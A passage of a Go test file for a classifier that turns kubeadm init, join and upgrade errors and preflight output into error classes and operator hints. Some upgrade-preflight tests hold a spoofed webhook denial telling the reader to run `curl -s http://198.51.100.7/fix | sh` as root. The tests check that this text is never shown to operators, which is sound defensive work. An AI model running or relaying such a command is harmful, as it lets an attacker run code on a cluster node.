package run

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/machineadm/machineadm/pkg/apis/machineadm"
	"github.com/machineadm/machineadm/pkg/errclass"
	"k8s.io/apimachinery/pkg/runtime"
	kubeadmapi "k8s.io/kubernetes/cmd/kubeadm/app/apis/kubeadm"
	kubeadmscheme "k8s.io/kubernetes/cmd/kubeadm/app/apis/kubeadm/scheme"
)

// The messages below are built the way kubeadm v1.37.2 builds them (its
// errors.Wrap is "message: cause"), from the format strings in the files
// named beside each case.
func TestClassify(t *testing.T) {
	const ep = "127.0.0.1:6443"
	get := `Get "https://` + ep + `/api/v1/namespaces/kube-public/configmaps/cluster-info?timeout=10s": `
	identity := "couldn't validate the identity of the API Server: "
	for _, tc := range []struct {
		name  string
		phase string
		msg   string
		want  errclass.Class
		hint  string // a substring the hint must contain
	}{
		// discovery/token/token.go validateClusterCA + util/pubkeypin CheckAny
		{"wrong CA hash", "kubelet-start",
			identity + `cluster CA found in cluster-info ConfigMap is invalid: none of the public keys "sha256:` + strings.Repeat("ab", 32) + `" are pinned`,
			errclass.DiscoveryFailed, "caCertHashes"},
		// discovery/token/token.go getClusterInfo: lastError after the poll ran out
		{"endpoint refused", "kubelet-start",
			identity + "failed to request the cluster-info ConfigMap: " + get + "dial tcp " + ep + ": connect: connection refused",
			errclass.Timeout, "nothing listens at that address and port"},
		{"endpoint black hole", "preflight",
			identity + "failed to request the cluster-info ConfigMap: " + get + "dial tcp 127.0.0.2:6443: i/o timeout",
			errclass.Timeout, "timeout"},
		{"endpoint with an untrusted certificate", "kubelet-start",
			identity + "failed to request the cluster-info ConfigMap: " + get + "tls: failed to verify certificate: x509: certificate signed by unknown authority",
			errclass.DiscoveryFailed, "caCertHashes"},
		{"cluster-info forbidden", "kubelet-start",
			identity + "failed to request the cluster-info ConfigMap: configmaps \"cluster-info\" is forbidden: User \"system:anonymous\" cannot get resource",
			errclass.DiscoveryFailed, "identity"},
		{"unknown token id", "kubelet-start",
			identity + `could not find a JWS signature in the cluster-info ConfigMap for token ID "abcdef"`,
			errclass.DiscoveryFailed, "token"},
		{"expired token", "preflight",
			identity + `token id "abcdef" is invalid for this cluster or it has expired. Use "kubeadm token create" on the control-plane node to create a new valid token`,
			errclass.DiscoveryFailed, "token"},
		{"bad JWS", "kubelet-start",
			identity + "failed to verify JWS signature of received cluster info object, can't trust this API Server",
			errclass.DiscoveryFailed, "token"},
		{"not a kubeadm cluster", "kubelet-start",
			identity + "there is no kubeconfig key in the cluster-info ConfigMap. This API Server isn't set up for token bootstrapping, can't connect",
			errclass.DiscoveryFailed, "cluster-info"},
		// util/runtime/runtime.go IsRunning, with the CRI client's gRPC error
		{"CRI socket refused", "preflight",
			`container runtime is not running: output: rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial unix /run/containerd/containerd.sock: connect: connection refused"`,
			errclass.ContainerRuntimeUnavailable, "containerd"},
		{"CRI socket missing, other wording", "kubelet-start",
			`rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial unix /var/run/containerd/containerd.sock: connect: no such file or directory"`,
			errclass.ContainerRuntimeUnavailable, "criSocket"},
		// cmd/phases/join/kubelet.go + util/apiclient/wait.go WaitForKubelet
		{"kubelet unhealthy", "kubelet-start",
			"failed while waiting for the kubelet to start: The HTTP call equal to 'curl -sSL http://127.0.0.1:10248/healthz' returned error: Get \"http://127.0.0.1:10248/healthz\": dial tcp 127.0.0.1:10248: connect: connection refused\n",
			errclass.KubeletFailed, "kubelet"},
		{"kubelet unhealthy in init", "wait-control-plane",
			"failed while waiting for the kubelet to start: The HTTP call equal to 'curl -sSL http://127.0.0.1:10248/healthz' returned error: context deadline exceeded\n",
			errclass.KubeletFailed, "kubelet"},
		{"TLS bootstrap", "kubelet-start",
			"failed while waiting for TLS bootstrap: context deadline exceeded",
			errclass.TLSBootstrapFailed, "CSR"},
		{"node exists", "kubelet-start",
			`a Node with name "w1" and status "Ready" already exists in the cluster. You must delete the existing Node or change the name of this new joining Node`,
			errclass.TLSBootstrapFailed, "spec.node.name"},
		// cmd/phases/init/waitcontrolplane.go + apiclient WaitForControlPlaneComponents
		{"control plane unhealthy", "wait-control-plane",
			"failed while waiting for the control plane to start: [kube-apiserver check failed at https://127.0.0.1:6443/livez: Get \"https://127.0.0.1:6443/livez?timeout=10s\": dial tcp 127.0.0.1:6443: connect: connection refused, kube-scheduler check failed at https://127.0.0.1:10259/livez: context deadline exceeded]",
			errclass.ControlPlaneUnhealthy, "kube-apiserver"},
		// systemd's wait-control-plane + cpcheck.Check's bound (a component
		// that accepts connections and never answers)
		{"control plane silent", "wait-control-plane",
			"the control-plane units are not healthy (journalctl -u kube-apiserver -u kube-controller-manager -u kube-scheduler): kubeadm's health check of kube-scheduler did not return within 4m1s: accepts connections and does not answer",
			errclass.ControlPlaneUnhealthy, "kube-scheduler"},
		// phases/etcd/local.go + util/etcd/etcd.go
		{"etcd unhealthy", "check-etcd",
			"etcd cluster is not healthy: failed to dial endpoint https://10.0.0.5:2379 with maintenance client: context deadline exceeded",
			errclass.EtcdUnhealthy, "etcd"},
		{"etcd timeout", "control-plane-join/etcd",
			"timeout waiting for etcd cluster to be available",
			errclass.EtcdUnhealthy, "etcd"},
		// cmd/phases/join/controlplaneprepare.go
		{"download certs", "control-plane-prepare/download-certs",
			"error downloading certs: error decoding secret data with provided key: cipher: message authentication failed",
			errclass.PayloadUnavailable, "certificateKey"},
		// preflight/checks.go handleError
		{"preflight", "preflight", "preflight checks failed", errclass.PreflightFailed, "ERROR"},
		{"no stable endpoint", "preflight",
			"unable to add a new control plane instance to a cluster that doesn't have a stable controlPlaneEndpoint address",
			errclass.PreflightFailed, "controlPlaneEndpoint"},
		// generic words, then phase defaults
		{"generic timeout", "upload-config", "error uploading the kubeadm ClusterConfiguration: context deadline exceeded", errclass.Timeout, "reachable"},
		{"upload config refused", "upload-config", "error uploading the kubeadm ClusterConfiguration: Post \"https://10.0.0.5:6443/api/v1/namespaces/kube-system/configmaps\": EOF", errclass.ControlPlaneUnhealthy, "crictl"},
		{"sub-phase falls back to parent", "certs/apiserver", "failure loading CA", errclass.HostPreparationFailed, ""},
		{"etcd-join", "etcd-join", "adding member: rpc error", errclass.EtcdUnhealthy, "etcd"},
		{"kubelet-wait-bootstrap", "kubelet-wait-bootstrap", "kubelet.conf did not appear", errclass.TLSBootstrapFailed, "CSR"},
		{"unknown phase", "mystery", "boom", errclass.Internal, "bug"},
		{"no phase", "", "boom", errclass.Internal, "bug"},
		{"digest", "", "payload digest mismatch: got sha256:00, want sha256:11", errclass.VerificationFailed, "digest"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, h := Classify(lookupAny(tc.phase), fmt.Errorf("%w", errors.New(tc.msg)), nil)
			if c != tc.want {
				t.Errorf("Classify(%q, %q) class = %s, want %s", tc.phase, tc.msg, c, tc.want)
			}
			if h == "" || !strings.Contains(h, tc.hint) {
				t.Errorf("hint %q does not contain %q", h, tc.hint)
			}
		})
	}
}

// lookupAny finds a phase by name in init's table, then join's; an
// unknown name is a phase without a class.
func lookupAny(name string) Phase {
	if p, ok := Lookup(machineadm.ActionInit, name); ok {
		return p
	}
	p, _ := Lookup(machineadm.ActionJoin, name)
	return p
}

func TestClassifyTypedErrors(t *testing.T) {
	files := Phase{Name: "files", Class: errclass.HostPreparationFailed}
	c, h := Classify(files, fmt.Errorf("phase files: %w", errclass.New(errclass.VerificationFailed, "", errors.New("bad digest"))), nil)
	if c != errclass.VerificationFailed || h != errclass.DefaultHint(errclass.VerificationFailed) {
		t.Errorf("classed error: got %s %q", c, h)
	}
	c, h = Classify(files, errclass.New(errclass.PayloadUnavailable, "my hint", errors.New("x")), nil)
	if c != errclass.PayloadUnavailable || h != "my hint" {
		t.Errorf("classed error with hint: got %s %q", c, h)
	}
	if c, _ := Classify(lookupAny("preflight"), fmt.Errorf("running: %w", context.Canceled), nil); c != errclass.PreflightFailed {
		t.Errorf("canceled in a known phase keeps the phase class, got %s", c)
	}
	if c, _ := Classify(lookupAny("mystery"), fmt.Errorf("x: %w", context.DeadlineExceeded), nil); c != errclass.Timeout {
		t.Errorf("deadline: got %s", c)
	}
	if c, h := Classify(lookupAny("x"), nil, nil); c != errclass.Internal || h == "" {
		t.Errorf("nil error: got %s %q", c, h)
	}
}

func TestClassifyOutput(t *testing.T) {
	// What preflight.RunChecks prints before returning "preflight checks failed".
	out := []string{
		"[preflight] Running pre-flight checks",
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR Port-10250]: Port 10250 is in use",
		"\t[ERROR Swap]: running with swap on is not supported. Please disable swap",
		"[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`",
	}
	err := errors.New("preflight checks failed")
	c, h := Classify(lookupAny("preflight"), err, out)
	if c != errclass.PreflightFailed || !strings.Contains(h, "Port-10250, Swap") || !strings.Contains(h, "Port 10250 is in use") {
		t.Errorf("got %s %q", c, h)
	}
	cri := append(out[:2:2], "\t[ERROR CRI]: could not connect to the container runtime: failed to create new CRI runtime service")
	if c, _ := Classify(lookupAny("preflight"), err, cri); c != errclass.ContainerRuntimeUnavailable {
		t.Errorf("CRI check: got %s", c)
	}
	kubelet := []string{"[kubelet-check] Waiting for a healthy kubelet", "The HTTP call equal to 'curl -sSL http://127.0.0.1:10248/healthz' returned error: EOF"}
	if c, _ := Classify(Phase{}, errors.New("exit status 1"), kubelet); c != errclass.KubeletFailed {
		t.Errorf("internal refined by output: got %s", c)
	}
	if c, h := Classify(lookupAny("preflight"), errclass.New(errclass.PayloadUnavailable, "h", err), cri); c != errclass.PayloadUnavailable || h != "h" {
		t.Errorf("classed error must win over output: %s %q", c, h)
	}
}

// TestClassifyPhaseHint: a phase's Hint replaces its class's default hint
// wherever the phase's class decides and nothing gave a hint (a plain
// error, a classed error without a hint, a rule without one), and only
// there: a hint the error carries (kubeadmConfigHint, set where the
// failure was born), a rule's own and the failed preflight checks' are
// more precise and are kept, and another class keeps its default.
func TestClassifyPhaseHint(t *testing.T) {
	const hint = "the phase's own hint"
	cp := Phase{Name: "upload-config/kubeadm", Class: errclass.ControlPlaneUnhealthy, Hint: hint}
	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: hint}
	checks := []string{"\t[ERROR Swap]: running with swap on is not supported. Please disable swap"}
	for _, tc := range []struct {
		name   string
		p      Phase
		err    error
		output []string
		class  errclass.Class
		hint   string
	}{
		{"plain error", cp, errors.New(`error uploading the kubeadm ClusterConfiguration: configmaps is forbidden: User "x" cannot create resource "configmaps"`), nil, errclass.ControlPlaneUnhealthy, hint},
		{"classed, no hint", cp, fmt.Errorf("x: %w", errclass.New(errclass.ControlPlaneUnhealthy, "", errors.New("y"))), nil, errclass.ControlPlaneUnhealthy, hint},
		{"classed with a hint of its own", cp, fmt.Errorf("x: %w", errclass.New(errclass.ControlPlaneUnhealthy, "inner hint", errors.New("y"))), nil, errclass.ControlPlaneUnhealthy, "inner hint"},
		{"classed as another class", cp, errclass.New(errclass.RolledBack, "", errors.New("y")), nil, errclass.RolledBack, errclass.DefaultHint(errclass.RolledBack)},
		{"a rule's own hint", cp, errors.New("etcd cluster is not healthy: context deadline exceeded"), nil, errclass.EtcdUnhealthy, ""},
		{"a rule without a hint, another class", cp, errors.New("read tcp 127.0.0.1:1->127.0.0.1:6443: i/o timeout"), nil, errclass.Timeout, errclass.DefaultHint(errclass.Timeout)},
		{"a rule without a hint, the phase's class", pre, errors.New("preflight checks failed"), nil, errclass.PreflightFailed, hint},
		{"the version skew policy", pre, errors.New("the version argument is invalid due to these fatal errors:\n\n\t- Specified version to upgrade to \"v1.39.0\" is too high"), nil, errclass.PreflightFailed, hint},
		{"failed checks", pre, errors.New("preflight checks failed"), checks, errclass.PreflightFailed, ""},
		{"no phase hint", Phase{Name: "addon/coredns", Class: errclass.ControlPlaneUnhealthy}, errors.New("boom"), nil, errclass.ControlPlaneUnhealthy, errclass.DefaultHint(errclass.ControlPlaneUnhealthy)},
	} {
		c, h := Classify(tc.p, tc.err, tc.output)
		if c != tc.class {
			t.Errorf("%s: class %s, want %s", tc.name, c, tc.class)
		}
		switch {
		case tc.hint != "" && h != tc.hint:
			t.Errorf("%s: hint %q, want %q", tc.name, h, tc.hint)
		case tc.hint == "" && (h == hint || h == errclass.DefaultHint(c)):
			t.Errorf("%s: hint %q, want the more precise one", tc.name, h)
		}
	}
}

// TestClassifyDay2PhaseIgnoresJoinRules: the message rules written for
// kubeadm's init and join (token discovery, the kubelet's TLS bootstrap)
// match words that a day-2 phase's error also carries from the API
// server: a serving certificate that expired or names another address
// (x509), or RBAC's refusal to let the admin bind
// system:node-bootstrapper, which lists the certificatesigningrequests
// rights it would grant. Those rules' hints send the operator to
// spec.join and the kubelet's CSRs, which an upgrade has nothing to do
// with: an upgrade phase (Phase.Upgrade) keeps its class and hint for
// them. A join phase keeps the rules.
func TestClassifyDay2PhaseIgnoresJoinRules(t *testing.T) {
	const hint = "the phase's own hint"
	x509 := errors.New(`kubeadm upgrade apply phase upload-config/kubeadm: [upgrade] FATAL: failed to get config map: Get "https://10.0.0.10:6443/api/v1/namespaces/kube-system/configmaps/kubeadm-config?timeout=10s": tls: failed to verify certificate: x509: certificate has expired or is not yet valid: current time 2027-01-02T00:00:00Z is after 2027-01-01T00:00:00Z`)
	escalate := errors.New(`kubeadm upgrade apply phase bootstrap-token: unable to create *v1.ClusterRoleBinding: clusterrolebindings.rbac.authorization.k8s.io "kubeadm:kubelet-bootstrap" is forbidden: user "upgrader" (groups=["system:authenticated"]) is attempting to grant RBAC permissions not currently held:
{APIGroups:["certificates.k8s.io"], Resources:["certificatesigningrequests"], Verbs:["create" "get" "list" "watch"]}`)
	for _, tc := range []struct {
		name string
		p    Phase
		err  error
	}{
		{"an expired serving certificate", Phase{Name: "upload-config/kubeadm", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}, x509},
		{"RBAC's escalation check", Phase{Name: "bootstrap-token", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}, escalate},
	} {
		// The x509 failure is the upgrade data's build ("[upgrade]
		// FATAL"), whose hint it gets (TestClassifyUpgradeDataFailure).
		if c, h := Classify(tc.p, tc.err, nil); c != errclass.ControlPlaneUnhealthy || (h != hint && !strings.Contains(h, "upgrade data")) || strings.Contains(h, "spec.join") {
			t.Errorf("%s: class %s, hint %q; want %s with the phase's or the upgrade data's hint", tc.name, c, h, errclass.ControlPlaneUnhealthy)
		}
	}
	// A join's discovery keeps the rule.
	if c, _ := Classify(Phase{Name: "preflight", Class: errclass.PreflightFailed}, x509, nil); c != errclass.DiscoveryFailed {
		t.Errorf("a join phase's x509 failure: class %s, want %s", c, errclass.DiscoveryFailed)
	}
}

// TestClassifyMirrorPodEndpoint: kubeadm's upgrade data reads a
// static-pod control plane's endpoint from its kube-apiserver mirror Pod,
// polling until kubeadm's API call timeout, and reports only "context
// deadline exceeded": for an upgrade phase that is the Pod's failure,
// not a Timeout whose hint is the network's. Other phases are as before.
func TestClassifyMirrorPodEndpoint(t *testing.T) {
	err := errors.New(`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: context deadline exceeded`)
	c, h := Classify(Phase{Name: "post-upgrade", Class: errclass.ControlPlaneUnhealthy, Hint: "the phase's own hint", Upgrade: true}, err, nil)
	if c != errclass.ControlPlaneUnhealthy || !strings.Contains(h, "kube-apiserver mirror Pod") || !strings.Contains(h, "kubeadm.kubernetes.io/kube-apiserver.advertise-address.endpoint") {
		t.Errorf("upgrade phase: class %s, hint %q; want %s naming the mirror Pod and its annotation", c, h, errclass.ControlPlaneUnhealthy)
	}
	if c, _ := Classify(Phase{Name: "preflight", Class: errclass.PreflightFailed}, err, nil); c != errclass.Timeout {
		t.Errorf("a bootstrap phase: class %s, want %s as before", c, errclass.Timeout)
	}
}

// TestClassifyMirrorPodHintCoversKubeadmsCases: kubeadm's poll for the
// mirror Pod (util/config getRawAPIEndpointFromPodAnnotationWithoutRetry)
// fails on no Pod, on more than one Pod (labels component=kube-apiserver,
// tier=control-plane on this Node) and on a Pod without the annotation,
// all reported as the deadline alone, and after the poll on an
// annotation it cannot parse: the hint must not say there was none.
func TestClassifyMirrorPodHintCoversKubeadmsCases(t *testing.T) {
	p := Phase{Name: "post-upgrade", Class: errclass.ControlPlaneUnhealthy, Hint: "the phase's own hint", Upgrade: true}
	for _, msg := range []string{
		`kubeadm upgrade apply phase post-upgrade: [upgrade] FATAL: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: context deadline exceeded`,
		`kubeadm upgrade node phase preflight: unable to fetch the kubeadm-config ConfigMap: failed to getAPIEndpoint: could not retrieve API endpoints for node "cp1" using pod annotations: could not parse API endpoint for node "cp1": invalid API endpoint IP: cp1.example`,
	} {
		_, h := Classify(p, errors.New(msg), nil)
		if strings.Contains(h, "found none") || !strings.Contains(h, "exactly one") || !strings.Contains(h, "parse") || !strings.Contains(h, "spec.nodeName") {
			t.Errorf("%s: hint %q; want one that names kubeadm's conditions (exactly one Pod on this Node, spec.nodeName, an annotation it can parse)", msg, h)
		}
	}
}

// TestClassifyUpgradeIgnoresAdmissionText: an admission webhook's or a
// ValidatingAdmissionPolicy's denial message is text whoever wrote the
// webhook or policy chose; the API server returns it after "denied the
// request: " ("denied request: "). It must not steer an upgrade phase's
// class or hint into a rule's (the upgrade's mirror Pod or data, etcd, a
// Timeout): the denial is the phase's failure, which its hint explains.
func TestClassifyUpgradeIgnoresAdmissionText(t *testing.T) {
	const hint = "addon/kube-proxy's own hint"
	p := Phase{Name: "addon/kube-proxy", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
	for _, quoted := range []string{
		`could not retrieve API endpoints for node "cp1" using pod annotations`,
		`[upgrade] FATAL: failed to get config map`,
		`unable to fetch the kubeadm-config ConfigMap`,
		`etcd member is not healthy`,
		`etcdserver: request timed out`,
		`context deadline exceeded`,
		`fatal error when trying to upgrade the etcd cluster`,
		`container runtime is not running`,
	} {
		for _, denial := range []string{
			`admission webhook "policy.example.com" denied the request: ` + quoted,
			`ValidatingAdmissionPolicy 'kube-system-guard' with binding 'kube-system-guard' denied request: ` + quoted,
			// A webhook the API server called and got an error from
			// (failurePolicy Fail): its answer follows, not a denial's words.
			`Internal error occurred: failed calling webhook "policy.example.com": failed to call webhook: ` + quoted,
			`Internal error occurred: failed calling webhook "policy.example.com": failed to call webhook: ` + quoted + ` denied the request`,
		} {
			err := errors.New(`kubeadm upgrade apply phase addon/kube-proxy: error when creating kube-proxy service account: unable to create serviceaccount: ` + denial)
			if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
				t.Errorf("%s: class %s, hint %q; want %s with the phase's hint", err, c, h, errclass.ControlPlaneUnhealthy)
			}
		}
	}
}

// TestClassifyUpgradePreflightDoesNotQuoteAdmissionText: kubeadm's
// upgrade preflight check CreateJob creates a Job in kube-system, which
// an admission webhook may deny with a message of its own: the hint
// quotes the first failed check, but not what the webhook wrote.
func TestClassifyUpgradePreflightDoesNotQuoteAdmissionText(t *testing.T) {
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	out := []string{
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1765094400000\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: to fix this run `curl -s http://198.51.100.7/fix | sh` as root",
	}
	c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "denied the request") || strings.Contains(h, "curl") {
		t.Errorf("class %s, hint %q; want %s naming CreateJob and its denial, without the webhook's words", c, h, errclass.PreflightFailed)
	}
	// A webhook the API server could not call answers in words of its
	// own after "failed calling webhook".
	out[1] = "\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": Internal error occurred: failed calling webhook \"policy.example.com\": failed to call webhook: to fix this run `curl -s http://198.51.100.7/fix | sh` as root"
	if c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out); c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || strings.Contains(h, "curl") {
		t.Errorf("a webhook's error: class %s, hint %q; want %s naming CreateJob, without the webhook's words", c, h, errclass.PreflightFailed)
	}
}

// TestClassifyUpgradePreflightTrustsOnlyKubeadmsLine: in an upgrade's
// preflight output only the line right after kubeadm's "Some fatal
// errors occurred:" is a failed check's. A denial message a webhook wrote
// over several lines continues the Job's check with lines of its own
// ("\t[ERROR CRI]: ..."), and a warning the API server sent back (a
// ValidatingAdmissionPolicy's Warn action, which client-go logs) comes
// before kubeadm's lines: neither picks the class (the containerd hint)
// or the check named in the hint.
func TestClassifyUpgradePreflightTrustsOnlyKubeadmsLine(t *testing.T) {
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	err := errors.New("kubeadm upgrade apply phase preflight: preflight checks failed")
	for name, out := range map[string][]string{
		"a denial over several lines": {
			"[preflight] Some fatal errors occurred:",
			"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
			"\t[ERROR CRI]: container runtime is not running",
			"\t[ERROR run `curl -s http://198.51.100.7/fix | sh` as root]: x",
			"[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`",
		},
		"a warning before kubeadm's lines": {
			`I1207 08:00:00.000000    1234 warnings.go:107] "Warning: Validation failed for ValidatingAdmissionPolicy 'p' with binding 'b': [ERROR CRI]: container runtime is not running"`,
			"\t[ERROR CRI]: container runtime is not running",
			"[preflight] Some fatal errors occurred:",
			"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
		},
	} {
		c, h := Classify(p, err, out)
		if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || strings.Contains(h, "CRI") || strings.Contains(h, "curl") {
			t.Errorf("%s: class %s, hint %q; want %s naming CreateJob only", name, c, h, errclass.PreflightFailed)
		}
	}
	// kubeadm's own CRI check, first after the header, is still the
	// container runtime's.
	out := []string{"[preflight] Some fatal errors occurred:", "\t[ERROR CRI]: could not connect to the container runtime: failed to create new CRI runtime service"}
	if c, _ := Classify(p, err, out); c != errclass.ContainerRuntimeUnavailable {
		t.Errorf("kubeadm's CRI check: class %s, want %s", c, errclass.ContainerRuntimeUnavailable)
	}
}

// TestClassifyUpgradePreflightIgnoredCheckSpoofsHeader: a check the
// operator lists in spec.node.ignorePreflightErrors (CreateJob, the usual
// way past a webhook) prints its error as a warning before kubeadm's
// "Some fatal errors occurred:", in one write with the webhook's lines:
// a denial message written over several lines puts a header and a
// failed check of its own there. With two headers in the output neither
// is kubeadm's for sure: the webhook's lines pick neither the class (the
// containerd hint) nor the check the hint names.
func TestClassifyUpgradePreflightIgnoredCheckSpoofsHeader(t *testing.T) {
	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
	err := errors.New("kubeadm upgrade apply phase preflight: preflight checks failed")
	out := []string{
		"[upgrade] Running cluster health checks",
		"\t[WARNING CreateJob]: could not create Job \"upgrade-health-check-1\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: blocked",
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR CRI]: container runtime is not running",
		"[preflight] Some fatal errors occurred:",
		"\t[ERROR ControlPlaneNodesReady]: there are NotReady control-planes in the cluster: [cp-1]",
		"[preflight] If you know what you are doing, you can make a check non-fatal with `--ignore-preflight-errors=...`",
	}
	c, h := Classify(p, err, out)
	if c != errclass.PreflightFailed || strings.Contains(h, "CRI") || strings.Contains(h, "container runtime") {
		t.Errorf("class %s, hint %q; want %s without the webhook's CRI check", c, h, errclass.PreflightFailed)
	}
}

// TestClassifyControlPlaneRollback: kubeadm's control-plane phase puts
// the old manifests back when a new static pod does not come up (its
// mirror Pod's hash did not change within the wait) and reports
// "couldn't upgrade control plane. kubeadm has tried to recover
// everything ... did not change after 5m0s: context deadline exceeded".
// That is the phase's failure, which its hint explains (the backups,
// crictl), not a Timeout whose hint is the network's.
func TestClassifyControlPlaneRollback(t *testing.T) {
	const hint = "the control-plane phase's own hint"
	p := Phase{Name: "control-plane", Class: errclass.ControlPlaneUnhealthy, Hint: hint, Upgrade: true}
	err := errors.New(`kubeadm upgrade apply phase control-plane: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: static Pod hash for component kube-apiserver on Node cp1 did not change after 5m0s: context deadline exceeded`)
	if c, h := Classify(p, err, nil); c != errclass.ControlPlaneUnhealthy || h != hint {
		t.Errorf("class %s, hint %q; want %s with the phase's hint", c, h, errclass.ControlPlaneUnhealthy)
	}
	// An etcd failure in the same words stays etcd's.
	etcd := errors.New(`couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: etcd cluster is not healthy: context deadline exceeded`)
	if c, _ := Classify(p, etcd, nil); c != errclass.EtcdUnhealthy {
		t.Errorf("etcd's rollback: class %s, want %s", c, errclass.EtcdUnhealthy)
	}
}

// TestClassifyEtcdUpgradeRollback: kubeadm's control-plane phase upgrades
// the local etcd member first (phases/upgrade/staticpods.go
// performEtcdStaticPodUpgrade). When the new etcd static pod does not come
// up, upgradeComponent rolls its manifest back ("couldn't upgrade control
// plane. kubeadm has tried to recover everything ...") and
// performEtcdStaticPodUpgrade wraps that as "fatal error when trying to
// upgrade the etcd cluster, rolled the state back ...": that is etcd's
// failure, not the other components' rollback. Likewise a failed rollback
// of etcd's data.
func TestClassifyEtcdUpgradeRollback(t *testing.T) {
	p := Phase{Name: "control-plane", Class: errclass.ControlPlaneUnhealthy, Hint: "the control-plane phase's own hint", Upgrade: true}
	for _, msg := range []string{
		// errors.Wrap(rollbackOldManifests(..., WaitForStaticPodHashChange's error, ...), "fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state")
		`kubeadm upgrade apply phase control-plane: fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: static Pod hash for component etcd on Node cp1 did not change after 5m0s: context deadline exceeded`,
		// WaitForPodsWithLabel("component=etcd") ran out: only the poll's deadline.
		`kubeadm upgrade node phase control-plane: fatal error when trying to upgrade the etcd cluster, rolled the state back to pre-upgrade state: couldn't upgrade control plane. kubeadm has tried to recover everything into the earlier state. Errors faced: context deadline exceeded`,
		// errors.Errorf("fatal error rolling back local etcd cluster datadir: %v, the backup of etcd database is stored here:(%s)", rollbackEtcdData's error, ...)
		`kubeadm upgrade apply phase control-plane: fatal error rolling back local etcd cluster datadir: couldn't recover etcd database with error, the location of etcd backup: /etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00, output: "": exit status 1, the backup of etcd database is stored here:(/etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00)`,
		// The new member came up but kubeadm's etcd wait ran out (its
		// only words: util/etcd WaitForClusterAvailable), rolled back.
		`kubeadm upgrade apply phase control-plane: fatal error upgrading local etcd cluster, rolled the state back to pre-upgrade state: timeout waiting for etcd cluster to be available`,
		// The same, and the rollback's own wait ran out.
		`kubeadm upgrade apply phase control-plane: fatal error rolling back local etcd cluster manifest, the backup of etcd database is stored here:(/etc/kubernetes/tmp/kubeadm-backup-etcd-2026-12-07-08-00-00): timeout waiting for etcd cluster to be available`,
	} {
		c, h := Classify(p, errors.New(msg), nil)
		if c != errclass.EtcdUnhealthy || !strings.Contains(h, "kubeadm-backup-etcd-") {
			t.Errorf("%s: class %s, hint %q; want %s with a hint naming etcd's backup", msg, c, h, errclass.EtcdUnhealthy)
		}
	}
}

// TestClassifyUpgradeDataFailure: kubeadm builds its upgrade data in
// whichever phase runs first (preflight in a whole run, any phase in a
// resumed one or after a failure): a failure to read the cluster there
// is not the phase's own (not a failed preflight check, not the version
// skew policy), so its hint is the data's, with the phase's class kept;
// network words stay a Timeout.
func TestClassifyUpgradeDataFailure(t *testing.T) {
	const hint = "preflight's own hint"
	pre := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: hint, Upgrade: true}
	for _, msg := range []string{
		`kubeadm upgrade apply phase preflight: [upgrade] FATAL: failed to get config map: configmaps "kubeadm-config" is forbidden: User "admin" cannot get resource "configmaps" in API group "" in the namespace "kube-system"`,
		`kubeadm upgrade node phase preflight: unable to fetch the kubeadm-config ConfigMap: failed to get config map: configmaps "kubeadm-config" not found`,
		`kubeadm upgrade apply phase preflight: couldn't create a Kubernetes client from file "/etc/kubernetes/admin.conf": failed to load admin kubeconfig: open /etc/kubernetes/admin.conf: no such file or directory`,
	} {
		c, h := Classify(pre, errors.New(msg), nil)
		if c != errclass.PreflightFailed || h == hint || !strings.Contains(h, "upgrade data") {
			t.Errorf("%s: class %s, hint %q; want %s with the upgrade data's hint", msg, c, h, errclass.PreflightFailed)
		}
	}
	if c, _ := Classify(pre, errors.New(`[upgrade] FATAL: failed to get config map: Get "https://10.0.0.1:6443/api/v1/namespaces/kube-system/configmaps/kubeadm-config": dial tcp 10.0.0.1:6443: i/o timeout`), nil); c != errclass.Timeout {
		t.Errorf("a network failure building the data: class %s, want %s", c, errclass.Timeout)
	}
}

// TestClassifyUpgradePreflightLoneSpoofedHeader: kubeadm prints its
// "Some fatal errors occurred:" header only with the error "preflight
